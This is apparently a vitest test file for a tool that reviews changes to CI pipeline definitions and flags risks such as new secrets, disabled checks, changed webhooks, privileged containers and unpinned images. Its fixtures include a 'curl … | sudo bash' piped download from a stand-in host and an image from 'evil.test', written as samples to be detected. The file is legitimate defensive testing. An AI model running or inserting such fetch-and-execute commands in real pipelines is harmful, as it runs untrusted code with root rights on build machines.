import { expect, it } from 'vitest';
import { executors, images } from '../../src/review/risks/place-rules.ts';
import { riskCodes } from '../../src/review/risks/risk-codes.ts';
import { settingsOfTask } from '../../src/review/settings.ts';
import type { TracedTask } from '../../src/review/trace-changes.ts';
import { makePipeline, makeTask } from '../support/pipeline.ts';
import { reviewed, risksOf } from '../support/reviewed.ts';

const at = (line: number) => `(.runnable/p.yaml:${line})`;

/** What a task or file has before and after, and the risks of that. */
const cases: readonly [string, { before: string; after: string; changed?: string }, readonly string[]][] = [
  [
    'a secret',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after: 'tasks:\n  t:\n    shell: a\n    secrets: [KEY]\n',
    },
    [`high new-secret: \`p/t\` now reads the secret \`KEY\` ${at(4)}`],
  ],
  [
    'the script of a task with secrets',
    {
      before: 'tasks:\n  t: { shell: a, secrets: [KEY] }\n',
      after: 'tasks:\n  t: { shell: b, secrets: [KEY] }\n',
    },
    [`high code-with-secrets: \`command\` changed of \`p/t\`, which holds \`KEY\` ${at(2)}`],
  ],
  [
    'the code of a task with secrets',
    {
      before: 'tasks:\n  t: { python: x.py, secrets: [KEY] }\n',
      after: 'tasks:\n  t: { python: x.py, secrets: [KEY] }\n',
      changed: 'x.py',
    },
    [`high code-with-secrets: \`x.py\` changed, the code of \`p/t\`, which holds \`KEY\` ${at(2)}`],
  ],
  [
    'a check that may fail',
    {
      before: 'tasks:\n  unit-test: { shell: a }\n',
      after: 'tasks:\n  unit-test: { shell: a, allow_failure: true }\n',
    },
    [`high weakened-check: \`allow_failure\` of the check \`p/unit-test\` changed ${at(2)}`],
  ],
  [
    'a task that only guards one with secrets',
    {
      before: 'tasks:\n  wall: { shell: a }\n  t: { shell: b, needs: [wall], secrets: [KEY] }\n',
      after:
        'tasks:\n  wall: { shell: a, enabled: false }\n  t: { shell: b, needs: [wall], secrets: [KEY] }\n',
    },
    [`high weakened-check: \`enabled\` of the check \`p/wall\` changed ${at(2)}`],
  ],
  [
    'the failure of a check that another task deals with',
    {
      before: 'tasks:\n  test: { shell: a }\n',
      after: 'tasks:\n  test: { shell: a }\n  calm: { shell: b, needs: [test], handles: [test] }\n',
    },
    [`high weakened-check: \`p/calm\` now handles the failure of the check \`p/test\` ${at(3)}`],
  ],
  [
    'a check that is gone, and that was needed',
    {
      before: 'tasks:\n  test: { shell: a }\n  t: { shell: b, needs: [test] }\n',
      after: 'tasks:\n  t: { shell: b }\n',
    },
    [
      `high removed-check: the check \`p/test\` is gone ${at(2)}`,
      `medium consumed-task-removed: \`p/test\` is gone, and \`p/t\` needed it ${at(2)}`,
    ],
  ],
  [
    'a link into the live checkout, and what is written there',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after:
        'workspace:\n  link: [{ path: data, mode: read-write }]\ntasks:\n  t:\n    shell: a\n    outputs: [data/x]\n',
    },
    [
      `high workspace-link: tasks of \`p\` now write to \`data\` of the live checkout ${at(2)}`,
      `medium output-outside: \`p/t\` writes \`data/x\` into the live checkout ${at(6)}`,
    ],
  ],
  [
    'a webhook',
    {
      before: 'notify: [{ on: [failure], webhook: "https://a.test/1" }]\ntasks:\n  t: { shell: a }\n',
      after: 'notify: [{ on: [failure], webhook: "https://b.test/key" }]\ntasks:\n  t: { shell: a }\n',
    },
    [`high webhook: pipeline \`p\` tells another address at \`b.test\` ${at(1)}`],
  ],
  [
    'a script from the network',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after: 'tasks:\n  t:\n    shell: |\n      curl -s \\\n        https://x.test/i.sh | sudo bash -s\n',
    },
    [
      `high piped-download: \`p/t\` runs what it loads from the network: \`curl -s    https://x.test/i.sh | sudo bash\` ${at(3)}`,
      `low network-host: \`p/t\` now names the host \`x.test\` ${at(3)}`,
    ],
  ],
  [
    'rights over the machine',
    {
      before: 'tasks:\n  t: { shell: docker run x }\n',
      after: 'tasks:\n  t: { shell: docker run --privileged x }\n',
    },
    [`high privileged-command: \`p/t\` asks for rights over the machine: \`--privileged\` ${at(2)}`],
  ],
  [
    'a schedule',
    {
      before: 'on: [{ schedule: "0 6 * * 1" }]\ntasks:\n  t: { shell: a }\n',
      after: 'on: [{ schedule: "0 7 * * 1" }]\ntasks:\n  t: { shell: a }\n',
    },
    [
      `medium schedule: pipeline \`p\` is now started by \`schedule: 0 7 * * 1\`, and is no more started by \`schedule: 0 6 * * 1\` ${at(1)}`,
    ],
  ],
  [
    'packages',
    {
      before: 'tasks:\n  t: { python: x.py, environment: requirements.txt }\n',
      after: 'tasks:\n  t: { python: x.py, environment: requirements.txt }\n',
      changed: 'requirements.txt',
    },
    [`medium environment-file: the packages of \`p/t\` differ: \`requirements.txt\` changed ${at(2)}`],
  ],
  [
    'a departure from the standard model',
    {
      before: 'tasks:\n  t: { shell: eval "$X" }\n',
      after:
        'deviations:\n  - { rule: eval-in-script, reason: trusted }\ntasks:\n  t: { shell: eval "$X" }\n',
    },
    [`medium deviation: \`p\` departs from \`eval-in-script\`: \`trusted\` ${at(2)}`],
  ],
  [
    'defaults of params',
    {
      before: 'params: { a: 1 }\ntasks:\n  t: { shell: a, params: { b: 1 } }\n',
      after: 'params: { a: 2 }\ntasks:\n  t: { shell: a, params: { b: 2 } }\n',
    },
    [
      `medium default-param: the default of param \`a\` of \`p\` changed ${at(1)}`,
      `medium default-param: the default of param \`b\` of \`p/t\` changed ${at(3)}`,
    ],
  ],
  [
    'limits',
    {
      before: 'tasks:\n  t: { shell: a, timeout: 5m, retry: 1 }\n',
      after: 'tasks:\n  t: { shell: a, timeout: 10m, retry: 2 }\n',
    },
    [`medium limits: \`timeout\` of \`p/t\` is at least twice what it was ${at(2)}`],
  ],
  [
    'variables',
    {
      before: 'tasks:\n  t: { shell: a, env: { A: "1" } }\n',
      after: 'tasks:\n  t: { shell: a, env: { A: "2" }, pass_env: [HOME] }\n',
    },
    [
      `medium passed-variable: \`p/t\` now sees \`HOME\` of the runner ${at(2)}`,
      `low env-value: \`p/t\` has another \`A\` ${at(2)}`,
    ],
  ],
];

it.each(cases)('tells of %s', async (_, { before, after, changed }, risks) => {
  const review = await reviewed(
    { p: before },
    { p: after },
    changed === undefined ? {} : { changedPaths: [changed] },
  );
  expect(review.diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(risksOf(review)).toEqual(risks);
});

it('tells of no risk that was there before', async () => {
  for (const [, { after }] of cases) {
    expect(risksOf(await reviewed({ p: after }, { p: after }))).toEqual([]);
  }
});

it('tells that the configuration differs, and goes by the policy of the base', async () => {
  const text = (env: string) => `tasks:\n  t: { shell: a, env: { A: "${env}" } }\n`;
  const changedPaths = ['runnable.config.yaml'];
  const [plain, strict, calm] = await Promise.all([
    reviewed({ p: text('1') }, { p: text('2') }, { changedPaths, project: 'ml' }),
    reviewed(
      { p: text('1') },
      { p: text('2') },
      { policy: { failOnRisk: 'none', risks: { 'env-value': 'high' } } },
    ),
    reviewed(
      { p: text('1') },
      { p: text('2') },
      { policy: { failOnRisk: 'none', risks: { 'env-value': 'off' } } },
    ),
  ]);
  expect(plain.risks.map(({ severity, code, file }) => [severity, code, file])).toEqual([
    ['high', 'configuration', 'ml/runnable.config.yaml'],
    ['low', 'env-value', '.runnable/p.yaml'],
  ]);
  expect(strict.risks.map(({ severity }) => severity)).toEqual(['high']);
  expect(calm.risks).toEqual([]);
});

/** A task with another value of one setting. */
function tracedWith(
  field: 'image' | 'executor',
  before: string | undefined,
  after: string | undefined,
): TracedTask {
  const pipeline = makePipeline();
  const placed = (value: string | undefined) => {
    const task = { ...makeTask('t'), ...(value === undefined ? {} : { [field]: value }) };
    return { id: 'p/t', within: 'p', pipeline, task, settings: () => settingsOfTask(task) };
  };
  const fields = before === after ? [] : [{ field, before: before ?? null, after: after ?? null }];
  const pair = { before: placed(before), after: placed(after), fields, inside: [] };
  return {
    ...{ pair, change: 'modified', fields, cosmetic: false, reused: null },
    ...{ why: '', input: null, runs: true, inside: [] },
  };
}

const context = {
  executorType: (name: string | undefined) => ({ box: 'container', local: 'local' })[name ?? 'local'] ?? null,
  kinds: new Map(),
  find: () => undefined,
  neededBy: () => [],
};

it.each([
  ['python:3.12', 'python:3.13', ['image-without-digest']],
  ['python:3.12', `python@sha256:${'a'.repeat(64)}`, []],
  ['python:3.12', 'python', ['image']],
  ['python:3.12', 'python:latest', ['image']],
  ['python:3.12', 'evil.test/python:3.12', ['image']],
  ['evil.test:5000/a/b:1', 'evil.test:5000/a/b:1', []],
])('judges the image %s → %s', (before, after, codes) => {
  const found = images.task?.(tracedWith('image', before, after), context);
  expect(found?.map(({ code }) => code)).toEqual(codes);
});

it('judges the images of services as those of tasks, and only those that changed', () => {
  const traced = tracedWith('image', undefined, undefined);
  const services = (images: Readonly<Record<string, string>>) =>
    Object.entries(images).map(([name, image]) => ({
      ...{ name, image, env: {}, secrets: [], ports: [], health: { intervalMs: 1000, timeoutMs: 60_000 } },
    }));
  const withServices = (images: Readonly<Record<string, string>>) => {
    const task = makeTask('t', [], { services: services(images) });
    return { id: 'p/t', within: 'p', pipeline: makePipeline(), task, settings: () => settingsOfTask(task) };
  };
  const fields = [{ field: 'services', before: '', after: '' }];
  const before = withServices({ same: 'redis', db: 'postgres:16' });
  const after = withServices({ same: 'redis', db: 'postgres:17', fresh: 'minio', pinned: 'a:1' });
  const pair = { ...traced.pair, before, after, fields };
  expect(
    images.task?.({ ...traced, pair, fields }, context)?.map(({ code, message }) => `${code} ${message}`),
  ).toEqual([
    'image-without-digest the image of service `db` of `p/t` is another one, without a digest: `postgres:17`',
    'image the image of service `fresh` of `p/t` has no tag: `minio`',
  ]);
});

it.each([
  ['box', undefined, ['executor']],
  ['box', 'local', ['executor']],
  ['box', 'unheard-of', ['executor']],
  ['local', 'box', []],
  [undefined, 'local', []],
])('judges the executor %s → %s', (before, after, codes) => {
  const found = executors.task?.(tracedWith('executor', before, after), context);
  expect(found?.map(({ code }) => code)).toEqual(codes);
});

it('has a case for each code', () => {
  const told = new Set(cases.flatMap(([, , risks]) => risks.map((risk) => /^\w+ ([\w-]+):/.exec(risk)?.[1])));
  const others = ['configuration', 'image', 'image-without-digest', 'executor'];
  expect(Object.keys(riskCodes).filter((code) => !told.has(code) && !others.includes(code))).toEqual([]);
});

it('reads long lines in linear time', async () => {
  const text = (end: string) =>
    `tasks:\n  t:\n    shell: "${'curl sh -c "$(bash <( '.replaceAll('"', "'").repeat(15_000)}${end}"\n`;
  const started = performance.now();
  const review = await reviewed({ p: text('a') }, { p: text('b') });
  expect(review.counts.modified).toBe(1);
  expect(performance.now() - started).toBeLessThan(5_000);
});
